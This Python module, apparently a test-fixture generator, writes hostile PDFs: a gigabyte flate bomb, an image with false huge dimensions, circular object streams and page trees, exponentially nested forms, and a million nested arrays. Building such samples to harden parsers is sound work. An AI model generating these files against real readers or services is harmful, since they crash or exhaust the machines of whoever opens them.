"""PDFs made to harm whoever opens them: small files that unpack to gigabytes, claim what cannot be, or go in circles.

Each stands for a class of attack; none has more than two megabytes on the disk.
"""

from __future__ import annotations

import zlib
from collections.abc import Iterable, Mapping
from pathlib import Path

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def write_objects(path: Path, objects: Mapping[int, bytes], *, xref: Iterable[bytes] | None = None) -> Path:
    """Write a PDF of these objects (number → everything between ``obj`` and ``endobj``); object 1 is the catalogue.

    Args:
        xref: what stands in the place of the ordinary table of objects and the trailer.
    """
    data = bytearray(HEADER)
    places: dict[int, int] = {}
    for number, body in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(data)
    if xref is None:
        data += b"xref\n0 1\n0000000000 65535 f \n"
        for number, place in places.items():
            data += b"%d 1\n%010d 00000 n \n" % (number, place)
        data += b"trailer\n<</Size %d/Root 1 0 R>>\n" % (max(objects) + 1)
    else:
        data += b"".join(xref)
    data += b"startxref\n%d\n%%%%EOF\n" % start
    path.write_bytes(data)
    return path


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, len(data), data)


def deflated(size: int, pattern: bytes = b"\0", times: int = 1) -> bytes:
    """Return ``size`` bytes of a repeated pattern, deflated ``times`` over, without ever holding them unpacked."""
    packer = zlib.compressobj(9)
    piece = pattern * ((1 << 20) // len(pattern))
    packed = b"".join([packer.compress(piece) for _ in range(size >> 20)] + [packer.flush()])
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed


def pages_of(contents: list[bytes], resources: bytes = b"", box: bytes = b"0 0 420 595") -> dict[int, bytes]:
    """Return the objects of a document with one page per content stream (the whole body of the stream object)."""
    kids = b" ".join(b"%d 0 R" % (10 + 2 * index) for index in range(len(contents)))
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, len(contents)),
        3: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
    }
    for index, content in enumerate(contents):
        number = 10 + 2 * index
        objects[number] = (
            b"<</Type/Page/Parent 2 0 R/MediaBox[%b]/Resources<</Font<</F 3 0 R>>%b>>/Contents %d 0 R>>"
            % (box, resources, number + 1)
        )
        objects[number + 1] = content
    return objects


def text(line: str) -> bytes:
    """A content stream with one line of text."""
    return stream(b"BT /F 14 Tf 40 500 Td (%b) Tj ET" % line.encode("cp1252"))


def content_bomb(path: Path, size: int = 1 << 30, *, before: Iterable[str] = (), times: int = 1) -> Path:
    """A page whose content unpacks to ``size`` zeros, after good pages."""
    filters = b"/Filter[%b]" % (b"/FlateDecode" * times)
    bomb = stream(deflated(size, times=times), filters)
    return write_objects(path, pages_of([*map(text, before), bomb]))


def image_bomb(path: Path, side: int = 60_000) -> Path:
    """A page that is filled by an image that claims ``side`` by ``side`` pixels, of which a megabyte is there."""
    picture = stream(
        deflated(1 << 20),
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode"
        % (side, side),
    )
    objects = pages_of([stream(b"q 420 0 0 595 0 0 cm /I Do Q")], b"/XObject<</I 4 0 R>>")
    return write_objects(path, {**objects, 4: picture})


def huge_page(path: Path, side: int = 14_400) -> Path:
    """A page of ``side`` by ``side`` points with a line drawn over it."""
    return write_objects(
        path, pages_of([stream(b"9 w 0 0 m %d %d l S" % (side, side))], box=b"0 0 %d %d" % (side, side))
    )


def object_streams_in_a_circle(path: Path) -> Path:
    """Every object, the catalogue too, lies in an object stream that lies in another, which lies in the first."""
    width = b"/W[1 4 2]"
    rows = bytes(7) + b"".join(bytes([2]) + container.to_bytes(4) + bytes(2) for container in (5, 5, 5, 5, 6, 5))
    table = b"8 0 obj\n" + stream(rows, b"/Type/XRef/Size 7/Root 1 0 R" + width) + b"\nendobj\n"
    body = stream(b"1 0 5 0 <</Type/Catalog/Pages 2 0 R>>", b"/Type/ObjStm/N 2/First 8")
    return write_objects(path, {5: body, 6: body}, xref=[table])


def object_stream_bomb(path: Path, size: int = 1 << 30) -> Path:
    """The catalogue lies in an object stream that unpacks to ``size`` bytes."""
    rows = bytes(7) + b"".join(bytes([2]) + (5).to_bytes(4) + number.to_bytes(2) for number in range(4))
    places = bytes([1]) + len(HEADER).to_bytes(4) + bytes(2)
    table = b"8 0 obj\n" + stream(rows + places, b"/Type/XRef/Size 6/Root 1 0 R/W[1 4 2]") + b"\nendobj\n"
    body = stream(deflated(size), b"/Type/ObjStm/N 2/First 8/Filter/FlateDecode")
    return write_objects(path, {5: body}, xref=[table])


def page_tree_in_a_circle(path: Path, count: int = 40) -> Path:
    """A page tree whose only child is itself."""
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R]/Count %d>>" % count}
    return write_objects(path, objects)


def forms_in_forms(path: Path, depth: int = 30) -> Path:
    """A page that draws a form twice, which draws a form twice, and so on: a thousand million drawings."""
    forms = {}
    for level in range(depth):
        inner = b"/X Do /X Do" if level < depth - 1 else b"0 0 9 9 re f"
        resources = b"/Resources<</XObject<</X %d 0 R>>>>" % (101 + level)
        forms[100 + level] = stream(inner, b"/Type/XObject/Subtype/Form/BBox[0 0 99 99]" + resources)
    objects = pages_of([stream(b"/X Do /X Do")], b"/XObject<</X 100 0 R>>")
    return write_objects(path, {**objects, **forms})


def nested_arrays(path: Path, depth: int = 1_000_000) -> Path:
    """A page with a million arrays within arrays."""
    return write_objects(path, pages_of([stream(b"[" * depth)]))
